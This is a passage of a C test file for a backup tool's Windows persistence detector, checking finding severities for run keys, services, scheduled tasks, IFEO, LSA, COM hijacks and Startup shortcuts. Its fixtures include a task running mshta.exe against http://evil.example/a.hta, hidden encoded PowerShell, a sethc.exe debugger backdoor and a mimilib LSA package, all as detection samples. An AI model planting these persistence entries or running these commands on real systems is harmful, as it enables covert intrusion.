    CHECK(f && f->category == CR_CAT_PERSISTENCE && f->has_content &&
          strstr(f->detail, "SecurityHealthSystray.exe"));
    CHECK(found(&w, SY, "persistence:service", "ControlSet001\\Services\\Tcpip\\ImagePath"));
    CHECK(found(&w, SW, "persistence:winlogon",
                "Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Shell"));
    CHECK(found(&w, STARTUP "Helper.lnk", "persistence:startup-folder", NULL));
    f = found(&w, TASKS "Microsoft/Windows/Defrag/ScheduledDefrag", "persistence:scheduled-task",
              NULL);
    CHECK(f && strstr(f->detail, "runs %windir%\\system32\\defrag.exe -c -h -o -$"));
    CHECK(w.ctx.nout == 3 + 1 + 1 + 1 + 2 + 2);
    CHECK(warnings == 0);
    next_run(&w);

    /* Day 2: an intrusion, and ordinary changes. */
    put_hive(win, "Windows/System32/config/SOFTWARE",
             "{\"keys\": {\"Microsoft/Windows/CurrentVersion/Run\": {\"SecurityHealth\": "
             "{\"expand\": \"%windir%\\\\system32\\\\SecurityHealthSystray.exe\"},"
             "   \"Tool\": \"\\\"C:\\\\Program Files\\\\Tool\\\\tool.exe\\\" -tray\","
             "   \"Evil\": \"C:\\\\Users\\\\Public\\\\evil.exe\"},"
             " \"Microsoft/Windows/CurrentVersion/RunOnce\": {\"Enc\": "
             "   \"powershell.exe -nop -w hidden -enc SQBFAFgA\"},"
             " \"Microsoft/Windows NT/CurrentVersion/Winlogon\": {\"Shell\": "
             "   \"explorer.exe, C:\\\\Windows\\\\x.exe\", \"Userinit\": "
             "   \"C:\\\\Windows\\\\system32\\\\userinit.exe,\"},"
             " \"Classes/.txt\": {\"\": \"txtfile\"}}}");
    put_hive(win, "Windows/System32/config/SYSTEM",
             "{\"keys\": {\"Select\": {\"Current\": 1}, \"ControlSet001/Services/Tcpip\": "
             "{\"ImagePath\": {\"expand\": \"System32\\\\drivers\\\\tcpip.sys\"}},"
             " \"ControlSet001/Services/NewSvc\": {\"ImagePath\": "
             "   \"\\\"C:\\\\Program Files\\\\Vendor\\\\svc.exe\\\"\"},"
             " \"ControlSet001/Services/BadSvc\": {\"ImagePath\": \"C:\\\\ProgramData\\\\b.exe\"},"
             " \"ControlSet001/Services/WinDefend\": {\"ImagePath\": \"\\\"C:\\\\ProgramData\\\\"
             "Microsoft\\\\Windows Defender\\\\Platform\\\\4.18.1-0\\\\MsMpEng.exe\\\"\"}}}");
    /* alice's hive is damaged (cut short); bob is a new profile, made from Default. */
    {
        /* Make it larger than its first bin: a hive of 3 pages, cut inside the last. */
        char big[12000];
        int k = snprintf(big, sizeof(big),
                         "{\"keys\": {\"Software/Microsoft/Windows/CurrentVersion/"
                         "Run\": {\"OneDrive\": \"x.exe\"}, \"Software/Big\": "
                         "{\"Blob\": {\"binary\": \"");
        for (int i = 0; i < 5000; i++)
            k += snprintf(big + k, sizeof(big) - (size_t)k, "00");
        snprintf(big + k, sizeof(big) - (size_t)k, "\"}}}}");
        make_hive(&buf, big);
        REQUIRE(buf.len > 0x2000);
    }
    put_file(win, "Users/alice/NTUSER.DAT", buf.ptr, buf.len - 1000);
    put_hive(
        win, "Users/bob/NTUSER.DAT",
        "{\"keys\": {\"Software/Microsoft/Windows/CurrentVersion/RunOnce\": {"
        " \"OneDriveSetup\": \"C:\\\\Windows\\\\System32\\\\OneDriveSetup.exe /thfirstsetup\"},"
        " \"Software/Microsoft/Windows/CurrentVersion/Run\": {\"Helper\": "
        "   \"\\\"C:\\\\Program Files\\\\H\\\\h.exe\\\"\"}}}");
    put_file(win, STARTUP "evil.bat" + 1, "@echo off\r\n", 11);
    put_file(win, STARTUP "Helper.lnk" + 1, "L\0\0\0lnk-v2", 10);
    put_task(win, TASKS "Microsoft/Windows/Defrag/ScheduledDefrag" + 1, DEFRAG,
             "<Author>Microsoft</Author>");
    put_task(win, TASKS "Evil" + 1,
             "<Exec><Command>mshta.exe</Command><Arguments>http://evil.example/a.hta"
             "</Arguments></Exec>",
             "");
    put_task(win, TASKS "Vendor Update" + 1,
             "<Exec><Command>\"C:\\Program Files\\Vendor\\upd.exe\"</Command></Exec>", "");
    put_task(win, TASKS "Microsoft/Windows/Updates/Other" + 1,
             "<ComHandler><ClassId>{B}</ClassId></ComHandler>", "");
    {
        uint8_t job[0x46 + 2 + 24 + 2 + 6];
        memset(job, 0, sizeof(job));
        size_t o = 0x46;
        job[o] = 12; /* "C:\evil.exe" + NUL */
        o += 2;
        for (const char *p = "C:\\evil.exe"; *p; p++, o += 2)
            job[o] = (uint8_t)*p;
        o += 2;
        job[o] = 3; /* "-x" + NUL */
        o += 2;
        job[o] = '-';
        job[o + 2] = 'x';
        put_file(win, "Windows/Tasks/at1.job", job, sizeof(job));
    }
    bo.time_ns += 86400000000000ll;
    REQUIRE(cr_backup(&b, w.repo, paths, 1, &bo) == 0);

    static const char *day2[] = {SW,
                                 SY,
                                 ALICE,
                                 BOB,
                                 STARTUP "evil.bat",
                                 STARTUP "Helper.lnk",
                                 TASKS "Microsoft/Windows/Defrag/ScheduledDefrag",
                                 TASKS "Evil",
                                 TASKS "Vendor Update",
                                 TASKS "Microsoft/Windows/Updates/Other",
                                 "/Windows/Tasks/at1.job"};
    for (size_t i = 0; i < sizeof(day2) / sizeof(day2[0]); i++)
        judge(&w, a, b, day2[i]);
    f = found(&w, SW, "persistence:run-key", RUNKEY "Tool");
    CHECK(f && f->severity == CR_SEV_HIGH && strstr(f->detail, "tool.exe"));
    f = found(&w, SW, "persistence:run-key", RUNKEY "Evil");
    CHECK(f && f->severity == CR_SEV_CRITICAL);
    f = found(&w, SW, "persistence:run-key", "Microsoft\\Windows\\CurrentVersion\\RunOnce\\Enc");
    CHECK(f && f->severity == CR_SEV_CRITICAL && strstr(f->detail, "RunOnce"));
    f = found(&w, SW, "persistence:winlogon",
              "Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Shell");
    CHECK(f && f->severity == CR_SEV_CRITICAL && strstr(f->detail, "(was explorer.exe)"));
    CHECK(!found(&w, SW, "persistence:winlogon",
                 "Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Userinit"));
    CHECK(!found(&w, SW, "persistence:run-key", RUNKEY "SecurityHealth"));
    CHECK(count_on(&w, SW, CR_SEV_INFO) == 4);
    f = found(&w, SY, "persistence:service", "ControlSet001\\Services\\NewSvc\\ImagePath");
    CHECK(f && f->severity == CR_SEV_MEDIUM && strstr(f->detail, "NewSvc"));
    f = found(&w, SY, "persistence:service", "ControlSet001\\Services\\BadSvc\\ImagePath");
    CHECK(f && f->severity == CR_SEV_CRITICAL);
    f = found(&w, SY, "persistence:service", "ControlSet001\\Services\\WinDefend\\ImagePath");
    CHECK(f && f->severity == CR_SEV_MEDIUM);
    CHECK(count_on(&w, SY, CR_SEV_INFO) == 3);
    f = found(&w, ALICE, "anomaly:bad-hive", NULL);
    CHECK(f && f->severity == CR_SEV_LOW && f->category == CR_CAT_ANOMALY &&
          strstr(f->detail, "cut short"));
    CHECK(warnings == 1 && strstr(last_warning, "/Users/alice/NTUSER.DAT: registry hive"));
    f = found(&w, BOB, "persistence:run-key",
              "Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\OneDriveSetup");
    CHECK(f && f->severity == CR_SEV_INFO && strstr(f->detail, "Default profile"));
    f = found(&w, BOB, "persistence:run-key",
              "Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Helper");
    CHECK(f && f->severity == CR_SEV_HIGH);
    f = found(&w, STARTUP "evil.bat", "persistence:startup-folder", NULL);
    CHECK(f && f->severity == CR_SEV_HIGH);
    f = found(&w, STARTUP "Helper.lnk", "persistence:startup-folder", NULL);
    CHECK(f && f->severity == CR_SEV_MEDIUM);
    f = found(&w, TASKS "Microsoft/Windows/Defrag/ScheduledDefrag", "persistence:scheduled-task",
              NULL);
    CHECK(f && f->severity == CR_SEV_INFO && strstr(f->detail, "same actions"));
    f = found(&w, TASKS "Evil", "persistence:scheduled-task", NULL);
    CHECK(f && f->severity == CR_SEV_CRITICAL &&
          strstr(f->detail, "runs mshta.exe http://evil.example/a.hta"));
    f = found(&w, TASKS "Vendor Update", "persistence:scheduled-task", NULL);
    CHECK(f && f->severity == CR_SEV_HIGH &&
          strstr(f->detail, "runs \"C:\\Program Files\\Vendor\\upd.exe\""));
    f = found(&w, TASKS "Microsoft/Windows/Updates/Other", "persistence:scheduled-task", NULL);
    CHECK(f && f->severity == CR_SEV_MEDIUM && strstr(f->detail, "COM handler"));
    f = found(&w, "/Windows/Tasks/at1.job", "persistence:scheduled-task", NULL);
    CHECK(f && f->severity == CR_SEV_HIGH && strstr(f->detail, "runs C:\\evil.exe -x"));
    next_run(&w);

    /* Day 3: Windows rewrites SOFTWARE (one key more, nothing else); alice's hive
     * is whole again, with one entry more; the Startup .lnk changes again. */
    put_hive(win, "Windows/System32/config/SOFTWARE",
             "{\"keys\": {\"Microsoft/Windows/CurrentVersion/Run\": {\"SecurityHealth\": "
             "{\"expand\": \"%windir%\\\\system32\\\\SecurityHealthSystray.exe\"},"
             "   \"Tool\": \"\\\"C:\\\\Program Files\\\\Tool\\\\tool.exe\\\" -tray\","
             "   \"Evil\": \"C:\\\\Users\\\\Public\\\\evil.exe\"},"
             " \"Microsoft/Windows/CurrentVersion/RunOnce\": {\"Enc\": "
             "   \"powershell.exe -nop -w hidden -enc SQBFAFgA\"},"
             " \"Microsoft/Windows NT/CurrentVersion/Winlogon\": {\"Shell\": "
             "   \"explorer.exe, C:\\\\Windows\\\\x.exe\", \"Userinit\": "
             "   \"C:\\\\Windows\\\\system32\\\\userinit.exe,\"},"
             " \"Classes/.txt\": {\"\": \"txtfile\"}, \"Classes/.log\": {\"\": \"txtfile\"}}}");
    put_hive(win, "Users/alice/NTUSER.DAT",
             "{\"keys\": {\"Software/Microsoft/Windows/CurrentVersion/Run\": {\"OneDrive\": "
             "\"\\\"C:\\\\Users\\\\alice\\\\AppData\\\\Local\\\\Microsoft\\\\OneDrive\\\\"
             "OneDrive.exe\\\" /background\", \"Tool2\": \"C:\\\\Program Files\\\\t2.exe\","
             " \"Enc\": \"pwsh -EncodedCommand SQBFAFgA\"}}}");
    put_file(win, STARTUP "Helper.lnk" + 1, "L\0\0\0lnk-v3", 10);
    bo.time_ns += 86400000000000ll;
    REQUIRE(cr_backup(&c, w.repo, paths, 1, &bo) == 0);
    judge(&w, b, c, SW);
    judge(&w, b, c, ALICE);
    judge(&w, b, c, STARTUP "Helper.lnk");
    /* The day-2 findings about SOFTWARE are all still there, unchanged, nothing else. */
    CHECK(count_on(&w, SW, CR_SEV_INFO) == 4);
    size_t again = 0;
    for (size_t i = 0; i < w.nprev; i++) {
        const cr_finding *pf = &w.prev[i];
        if (strcmp(pf->path, SW) || pf->severity < CR_SEV_LOW)
            continue;
        f = found(&w, SW, pf->indicator, pf->evidence);
        CHECK(f && f->severity == pf->severity && !strcmp(f->detail, pf->detail));
        again++;
    }
    CHECK(again == 4);
    f = found(&w, ALICE, "persistence:run-key",
              "Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Tool2");
    CHECK(f && f->severity == CR_SEV_MEDIUM && strstr(f->detail, "could not be read"));
    f = found(&w, ALICE, "persistence:run-key",
              "Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive");
    CHECK(f && f->severity == CR_SEV_MEDIUM); /* in AppData, but maybe not new */
    f = found(&w, ALICE, "persistence:run-key",
              "Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Enc");
    CHECK(f && f->severity == CR_SEV_CRITICAL);
    CHECK(!found(&w, ALICE, "anomaly:bad-hive", NULL));
    f = found(&w, STARTUP "Helper.lnk", "persistence:startup-folder", NULL);
    CHECK(f && f->severity == CR_SEV_MEDIUM);

    /* Elsewhere, removed, or not a file: nothing. A hive, a task and a Startup
     * item under other names or places are not judged. */
    {
        static const char *elsewhere[] = {"/Users/alice/Documents/NTUSER.DAT",
                                          "/Windows/System32/config/RegBack/SOFTWARE",
                                          "/Windows/System32/config/SOFTWARE.LOG1",
                                          "/etc/crontab",
                                          "/Windows/Tasks/SchedLgU.Txt",
                                          STARTUP "sub/evil.exe",
                                          "/Windows/System32/Tasks",
                                          "/"};
        char full[PATH_MAX];
        cr_node nn, dir;
        pathf(full, "%s%s", c->paths[0], SW);
        REQUIRE(cr_snapshot_lookup(&nn, w.repo, c, full) == 0);
        pathf(full, "%s%s", c->paths[0], "/Windows/System32/Tasks");
        REQUIRE(cr_snapshot_lookup(&dir, w.repo, c, full) == 0);
        size_t before = w.ctx.nout;
        for (size_t i = 0; i < sizeof(elsewhere) / sizeof(elsewhere[0]); i++)
            CHECK_OK(hn_persist_windows(&w.ctx, elsewhere[i], NULL, &nn));
        CHECK_OK(hn_persist_windows(&w.ctx, SW, &nn, NULL));
        CHECK_OK(hn_persist_windows(&w.ctx, TASKS "Evil", NULL, &dir));
        CHECK(w.ctx.nout == before);
        /* The same places in another case: judged. */
        CHECK_OK(hn_persist_windows(&w.ctx, "/windows/SYSTEM32/Config/software", NULL, &nn));
        CHECK(w.ctx.nout > before);
        cr_node_clear(&nn);
        cr_node_clear(&dir);
    }

    cr_findings_free(w.ctx.out, w.ctx.nout);
    cr_findings_free(w.prev, w.nprev);
    cr_snapshot_free(a);
    cr_snapshot_free(b);
    cr_snapshot_free(c);
    cr_repo_free(w.repo);
    cr_buf_free(&buf);
}

/*
 * The other places Windows runs code from (docs/hunt.md, "Windows"): RunOnceEx,
 * Image File Execution Options (Debugger; GlobalFlag with SilentProcessExit's
 * MonitorProcess), AppInit_DLLs, Winlogon Notify, LSA packages (REG_MULTI_SZ),
 * print monitors, and a service whose ImagePath changed. Day 1 holds Windows'
 * defaults (an inventory, all info); day 2 plants each one: each is found at
 * high or critical, with the value that fired.
 */
static void test_windows_more(void)
{
    char win[PATH_MAX], vault[PATH_MAX];
    cr_snapshot *a = NULL, *b = NULL;
    cr_backup_options bo = CR_BACKUP_OPTIONS_INIT;
    const cr_finding *f;
    win_run w;

    memset(&w, 0, sizeof(w));
    warnings = 0;
    pathf(win, "%s/win2", scratch);
    pathf(vault, "%s/vault2", scratch);
    w.repo = fx_vault_new(vault, "pw");
    w.ctx.repo = w.repo;
    w.ctx.warning = on_warning;
    const char *paths[] = {win};
    bo.source = "ws2";
    bo.force_read = 1;
    bo.threads = 1;

    static const char *sw1 =
        "{\"keys\": {"
        " \"Microsoft/Windows NT/CurrentVersion/Windows\": {\"AppInit_DLLs\": \"\","
        "   \"LoadAppInit_DLLs\": 0},"
        " \"Microsoft/Windows NT/CurrentVersion/Image File Execution Options/notepad.exe\": "
        "   {\"MitigationOptions\": 1},"
        " \"Microsoft/Windows NT/CurrentVersion/Winlogon\": {\"Shell\": \"explorer.exe\"}}}";
    static const char *sy1 =
        "{\"keys\": {\"ControlSet001/Control/Lsa\": {"
        "   \"Security Packages\": {\"multi\": [\"kerberos\", \"msv1_0\"]},"
        "   \"Notification Packages\": {\"multi\": [\"scecli\"]}},"
        " \"ControlSet001/Control/Print/Monitors/Local Port\": {\"Driver\": \"localspl.dll\"},"
        " \"ControlSet001/Services/Spooler\": {\"ImagePath\": "
        "   {\"expand\": \"%SystemRoot%\\\\System32\\\\spoolsv.exe\"}}}}";
    put_hive(win, "Windows/System32/config/SOFTWARE", sw1);
    put_hive(win, "Windows/System32/config/SYSTEM", sy1);
    bo.time_ns = 1700000000000000000ll;
    REQUIRE(cr_backup(&a, w.repo, paths, 1, &bo) == 0);
    judge(&w, NULL, a, SW);
    judge(&w, NULL, a, SY);
    for (size_t i = 0; i < w.ctx.nout; i++)
        CHECK(w.ctx.out[i].severity == CR_SEV_INFO);
    f = found(&w, SY, "persistence:lsa", "ControlSet001\\Control\\Lsa\\Security Packages");
    CHECK(f && strstr(f->detail, "kerberos; msv1_0"));
    CHECK(found(&w, SW, "persistence:appinit",
                "Microsoft\\Windows NT\\CurrentVersion\\Windows\\LoadAppInit_DLLs"));
    CHECK(found(&w, SY, "persistence:print-monitor",
                "ControlSet001\\Control\\Print\\Monitors\\Local Port\\Driver"));
    CHECK(!found(&w, SW, "persistence:ifeo", NULL)); /* MitigationOptions is not a program */
    next_run(&w);

    static const char *sw2 =
        "{\"keys\": {"
        " \"Microsoft/Windows/CurrentVersion/RunOnceEx/0001\": {\"Line1\": "
        "   \"||C:\\\\ProgramData\\\\u\\\\x.dll\"},"
        " \"Microsoft/Windows NT/CurrentVersion/Windows\": {\"AppInit_DLLs\": "
        "   \"C:\\\\ProgramData\\\\hook.dll\", \"LoadAppInit_DLLs\": 1},"
        " \"Microsoft/Windows NT/CurrentVersion/Image File Execution Options/notepad.exe\": "
        "   {\"MitigationOptions\": 1, \"GlobalFlag\": 512},"
        " \"Microsoft/Windows NT/CurrentVersion/Image File Execution Options/sethc.exe\": "
        "   {\"Debugger\": \"C:\\\\Windows\\\\System32\\\\cmd.exe\"},"
        " \"Microsoft/Windows NT/CurrentVersion/SilentProcessExit/notepad.exe\": "
        "   {\"ReportingMode\": 1, \"MonitorProcess\": \"C:\\\\ProgramData\\\\m.exe\"},"
        " \"Microsoft/Windows NT/CurrentVersion/Winlogon\": {\"Shell\": \"explorer.exe\"},"
        " \"Microsoft/Windows NT/CurrentVersion/Winlogon/Notify/evil\": {\"DllName\": "
        "   \"C:\\\\Windows\\\\evil.dll\"}}}";
    static const char *sy2 =
        "{\"keys\": {\"ControlSet001/Control/Lsa\": {"
        "   \"Security Packages\": {\"multi\": [\"kerberos\", \"msv1_0\"]},"
        "   \"Notification Packages\": {\"multi\": [\"scecli\", \"mimilib\"]}},"
        " \"ControlSet001/Control/Print/Monitors/Local Port\": {\"Driver\": \"localspl.dll\"},"
        " \"ControlSet001/Control/Print/Monitors/Evil\": {\"Driver\": \"evilmon.dll\"},"
        " \"ControlSet001/Services/Spooler\": {\"ImagePath\": "
        "   {\"expand\": \"%SystemRoot%\\\\Temp\\\\spoolsv.exe\"}}}}";
    put_hive(win, "Windows/System32/config/SOFTWARE", sw2);
    put_hive(win, "Windows/System32/config/SYSTEM", sy2);
    bo.time_ns += 86400000000000ll;
    REQUIRE(cr_backup(&b, w.repo, paths, 1, &bo) == 0);
    judge(&w, a, b, SW);
    judge(&w, a, b, SY);
    f = found(&w, SW, "persistence:run-key",
              "Microsoft\\Windows\\CurrentVersion\\RunOnceEx\\0001\\Line1");
    CHECK(f && f->severity >= CR_SEV_HIGH && strstr(f->detail, "x.dll"));
    f = found(&w, SW, "persistence:appinit",
              "Microsoft\\Windows NT\\CurrentVersion\\Windows\\AppInit_DLLs");
    CHECK(f && f->severity == CR_SEV_CRITICAL && strstr(f->detail, "hook.dll"));
    f = found(&w, SW, "persistence:ifeo",
              "Microsoft\\Windows NT\\CurrentVersion\\Image File Execution "
              "Options\\sethc.exe\\Debugger");
    CHECK(f && f->severity == CR_SEV_CRITICAL && strstr(f->detail, "cmd.exe"));
    f = found(&w, SW, "persistence:ifeo",
              "Microsoft\\Windows NT\\CurrentVersion\\Image File Execution "
              "Options\\notepad.exe\\GlobalFlag");
    CHECK(f && f->severity >= CR_SEV_HIGH && strstr(f->detail, "0x00000200"));
    f = found(&w, SW, "persistence:ifeo",
              "Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit\\notepad.exe\\"
              "MonitorProcess");
    CHECK(f && f->severity == CR_SEV_CRITICAL && strstr(f->detail, "m.exe"));
    f = found(&w, SW, "persistence:winlogon",
              "Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Notify\\evil\\DllName");
    CHECK(f && f->severity == CR_SEV_CRITICAL);
    f = found(&w, SY, "persistence:lsa", "ControlSet001\\Control\\Lsa\\Notification Packages");
    CHECK(f && f->severity == CR_SEV_CRITICAL && strstr(f->detail, "mimilib"));
    CHECK(!found(&w, SY, "persistence:lsa", "ControlSet001\\Control\\Lsa\\Security Packages") ||
          found(&w, SY, "persistence:lsa", "ControlSet001\\Control\\Lsa\\Security Packages")
                  ->severity < CR_SEV_HIGH);
    f = found(&w, SY, "persistence:print-monitor",
              "ControlSet001\\Control\\Print\\Monitors\\Evil\\Driver");
    CHECK(f && f->severity >= CR_SEV_HIGH);
    f = found(&w, SY, "persistence:service", "ControlSet001\\Services\\Spooler\\ImagePath");
    CHECK(f && f->severity >= CR_SEV_HIGH && strstr(f->detail, "changed"));
    CHECK(warnings == 0);
    next_run(&w);

    cr_findings_free(w.ctx.out, w.ctx.nout);
    cr_findings_free(w.prev, w.nprev);
    cr_snapshot_free(a);
    cr_snapshot_free(b);
    cr_repo_free(w.repo);
}

/*
 * A user's COM servers (UsrClass.dat): the parser reads InprocServer32 and
 * LocalServer32 of each CLSID (Wow6432Node too), nothing else; then three
 * days of alice's and bob's classes hives. Day 1 is an inventory. Day 2 is
 * ordinary life: alice's hive rewritten with one more key that serves
 * nothing, and bob's first logon, where an installer registers its per-user
 * server in his profile: nothing at or above high (bob's is medium). Day 3
 * plants two hijacks in alice's: a DLL shadowing a machine CLSID (high) and
 * a scriptlet (critical).
 */
#define USRCLASS(u) "/Users/" u "/AppData/Local/Microsoft/Windows/UsrClass.dat"
#define ONEDRIVE_CLSID "{021E4F06-9DCC-49AD-88CF-ECC2DA314C8A}"
#define HIJACK_CLSID "{BCDE0395-E52F-467C-8E3D-C4579291692E}"

static void test_usrclass(void)
{
    cr_buf b = CR_BUF_INIT;
    hn_autorun *a = NULL;
    size_t n = 0;
    const hn_autorun *e;

    make_hive(&b, "{\"name\": \"UsrClass.dat\", \"keys\": {"
                  " \"CLSID/{A}/InprocServer32\": {\"\": \"C:\\\\Users\\\\bob\\\\x.dll\","
                  "   \"ThreadingModel\": \"Apartment\"},"
                  " \"CLSID/{B}/LocalServer32\": {\"\": {\"expand\": \"%LOCALAPPDATA%\\\\b.exe\"}},"
                  " \"CLSID/{C}/DefaultIcon\": {\"\": \"icon.dll,1\"},"
                  " \"CLSID/{E}/InprocServer32\": {\"ThreadingModel\": \"Both\"},"
                  " \"Wow6432Node/CLSID/{D}/InprocServer32\": {\"\": \"d32.dll\"},"
                  " \"Local Settings/Software\": {}}}");
    CHECK_OK(hn_hive_autoruns(&a, &n, b.ptr, b.len));
    CHECK(n == 3);
    CHECK(entries_sane(a, n));
    e = find(a, n, "CLSID\\{A}\\InprocServer32", "(Default)");
    CHECK(e && e->kind == HN_AUTORUN_COM && !strcmp(e->data, "C:\\Users\\bob\\x.dll"));
    e = find(a, n, "CLSID\\{B}\\LocalServer32", "(Default)");
    CHECK(e && e->kind == HN_AUTORUN_COM && !strcmp(e->data, "%LOCALAPPDATA%\\b.exe"));
    e = find(a, n, "Wow6432Node\\CLSID\\{D}\\InprocServer32", "(Default)");
    CHECK(e && e->kind == HN_AUTORUN_COM);
    hn_autoruns_free(a, n);
    a = NULL;
    /* NTUSER.DAT's Software\Classes, where older Windows kept them. */
    make_hive(&b, "{\"keys\": {\"Software/Classes/CLSID/{A}/InprocServer32\": {\"\": \"a.dll\"}}}");
    CHECK_OK(hn_hive_autoruns(&a, &n, b.ptr, b.len));
    CHECK(n == 1 && find(a, n, "Software\\Classes\\CLSID\\{A}\\InprocServer32", "(Default)"));
    hn_autoruns_free(a, n);
    cr_buf_free(&b);

    char win[PATH_MAX], vault[PATH_MAX];
    cr_snapshot *s1 = NULL, *s2 = NULL, *s3 = NULL;
    cr_backup_options bo = CR_BACKUP_OPTIONS_INIT;
    const cr_finding *f;
    win_run w;
    memset(&w, 0, sizeof(w));
    warnings = 0;
    pathf(win, "%s/win3", scratch);
    pathf(vault, "%s/vault3", scratch);
    w.repo = fx_vault_new(vault, "pw");
    w.ctx.repo = w.repo;
    w.ctx.warning = on_warning;
    const char *paths[] = {win};
    bo.source = "ws3";
    bo.force_read = 1;
    bo.threads = 1;

#define OD_ENTRY                                                                                   \
    " \"CLSID/" ONEDRIVE_CLSID "/InprocServer32\": {\"\": "                                        \
    "   "                                                                                          \
    "\"C:\\\\Users\\\\alice\\\\AppData\\\\Local\\\\Microsoft\\\\OneDrive\\\\FileSyncShell64."      \
    "dll\"}"
    put_hive(win, "Users/alice/AppData/Local/Microsoft/Windows/UsrClass.dat",
             "{\"keys\": {" OD_ENTRY "}}");
    bo.time_ns = 1700000000000000000ll;
    REQUIRE(cr_backup(&s1, w.repo, paths, 1, &bo) == 0);
    judge(&w, NULL, s1, USRCLASS("alice"));
    f = found(&w, USRCLASS("alice"), "persistence:com-hijack",
              "CLSID\\" ONEDRIVE_CLSID "\\InprocServer32\\(Default)");
    CHECK(f && f->severity == CR_SEV_INFO);
    next_run(&w);

    put_hive(win, "Users/alice/AppData/Local/Microsoft/Windows/UsrClass.dat",
             "{\"keys\": {" OD_ENTRY ", \"Local Settings/MuiCache/1\": {\"x\": \"y\"}}}");
    put_hive(win, "Users/bob/AppData/Local/Microsoft/Windows/UsrClass.dat",
             "{\"keys\": {\"CLSID/{9C6F4AA1-1F9E-4B6E-8D44-0A1F0C9A0B11}/LocalServer32\": {\"\": "
             "\"\\\"C:\\\\Users\\\\bob\\\\AppData\\\\Local\\\\Microsoft\\\\Teams\\\\current\\\\"
             "Teams.exe\\\" -Embedding\"}}}");
    bo.time_ns += 86400000000000ll;
    REQUIRE(cr_backup(&s2, w.repo, paths, 1, &bo) == 0);
    judge(&w, s1, s2, USRCLASS("alice"));
    judge(&w, s1, s2, USRCLASS("bob"));
    CHECK(count_on(&w, USRCLASS("alice"), CR_SEV_LOW) == 0);
    CHECK(count_on(&w, USRCLASS("bob"), CR_SEV_HIGH) == 0);
    f = found(&w, USRCLASS("bob"), "persistence:com-hijack", NULL);
    CHECK(f && f->severity == CR_SEV_MEDIUM && strstr(f->detail, "Teams.exe"));
    next_run(&w);

    put_hive(win, "Users/alice/AppData/Local/Microsoft/Windows/UsrClass.dat",
             "{\"keys\": {" OD_ENTRY ", \"Local Settings/MuiCache/1\": {\"x\": \"y\"},"
             " \"CLSID/" HIJACK_CLSID "/InprocServer32\": {\"\": "
             "   \"C:\\\\Users\\\\alice\\\\AppData\\\\Roaming\\\\Microsoft\\\\mmdevapi.dll\","
             "   \"ThreadingModel\": \"Both\"},"
             " \"CLSID/{0A0B0C0D-0000-4000-8000-000000000001}/InprocServer32\": {\"\": "
             "   \"C:\\\\Windows\\\\System32\\\\scrobj.dll\"}}}");
    bo.time_ns += 86400000000000ll;
    REQUIRE(cr_backup(&s3, w.repo, paths, 1, &bo) == 0);
    judge(&w, s2, s3, USRCLASS("alice"));
    f = found(&w, USRCLASS("alice"), "persistence:com-hijack",
              "CLSID\\" HIJACK_CLSID "\\InprocServer32\\(Default)");
    CHECK(f && f->severity == CR_SEV_HIGH && strstr(f->detail, "mmdevapi.dll"));
    f = found(&w, USRCLASS("alice"), "persistence:com-hijack",
              "CLSID\\{0A0B0C0D-0000-4000-8000-000000000001}\\InprocServer32\\(Default)");
    CHECK(f && f->severity == CR_SEV_CRITICAL);
    CHECK(!found(&w, USRCLASS("alice"), "persistence:com-hijack",
                 "CLSID\\" ONEDRIVE_CLSID "\\InprocServer32\\(Default)"));
    CHECK(warnings == 0);
    next_run(&w);

    cr_findings_free(w.ctx.out, w.ctx.nout);
    cr_findings_free(w.prev, w.nprev);
    cr_snapshot_free(s1);
    cr_snapshot_free(s2);
    cr_snapshot_free(s3);
    cr_repo_free(w.repo);
}

/* ------------------------------------------------------------ shortcuts */

/* tests/tools/mklnk.py with `args` (already quoted for the shell); the bytes into out. */
static void make_lnk(cr_buf *out, const char *args)
{
    static int seq;
    char lnk[PATH_MAX], tool[PATH_MAX], cmd[4 * PATH_MAX];
    pathf(lnk, "%s/lnk-%d.lnk", scratch, seq++);
    pathf(tool, "%s", mkhive);
    strcpy(strrchr(tool, '/') + 1, "mklnk.py");
    const char *py = access("/usr/bin/python3", X_OK) == 0 ? "/usr/bin/python3" : "python3";
    snprintf(cmd, sizeof(cmd), "%s '%s' -o '%s' %s", py, tool, lnk, args);
    REQUIRE(system(cmd) == 0);
    cr_buf_free(out);
    REQUIRE(cr_fs_read_all(out, AT_FDCWD, lnk, 1u << 20) == 0);
}

static void put_lnk(const char *dir, const char *rel, const char *args)
{
    cr_buf b = CR_BUF_INIT;
    make_lnk(&b, args);
    put_file(dir, rel, b.ptr, b.len);
    cr_buf_free(&b);
}

#define AGENT_LNK STARTUP "Backup agent.lnk"
#define ALICE_STARTUP "/Users/alice/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/"

/*
 * Shortcuts in Startup folders: hn_lnk_read gives the target (local path, or
 * the environment-variable path), arguments and working folder, and refuses
 * what is not a shortcut; then three days. Day 1: an agent's shortcut, an
 * inventory naming its target. Day 2: the same shortcut rewritten (another
 * description, same target): info. Day 3: that shortcut now starts a program
 * from ProgramData (high, "now starts ... was"), and alice's Startup gets a
 * shortcut to cmd.exe running an encoded PowerShell (critical) and one to a
 * program in her profile (high).
 */
static void test_startup_lnk(void)
{
    cr_buf b = CR_BUF_INIT;
    hn_lnk l;

    make_lnk(&b, "--target 'C:\\Program Files\\Agent\\agent.exe' --args='-tray' "
                 "--workdir 'C:\\Program Files\\Agent' --name 'Backup agent'");
    CHECK_OK(hn_lnk_read(&l, b.ptr, b.len));
    CHECK(l.target && !strcmp(l.target, "C:\\Program Files\\Agent\\agent.exe"));
    CHECK(l.args && !strcmp(l.args, "-tray"));
    CHECK(l.workdir && !strcmp(l.workdir, "C:\\Program Files\\Agent"));
    hn_lnk_clear(&l);
    /* Every prefix of a shortcut: read or refused, never a crash. */
    for (size_t n = 0; n < b.len; n++) {
        int rc = hn_lnk_read(&l, b.ptr, n);
        CHECK(rc == 0 || rc == CR_ECORRUPT);
        hn_lnk_clear(&l);
    }
    make_lnk(&b, "--env '%COMSPEC%' --args='/c powershell -w hidden -enc SQBFAFgA'");
    CHECK_OK(hn_lnk_read(&l, b.ptr, b.len));
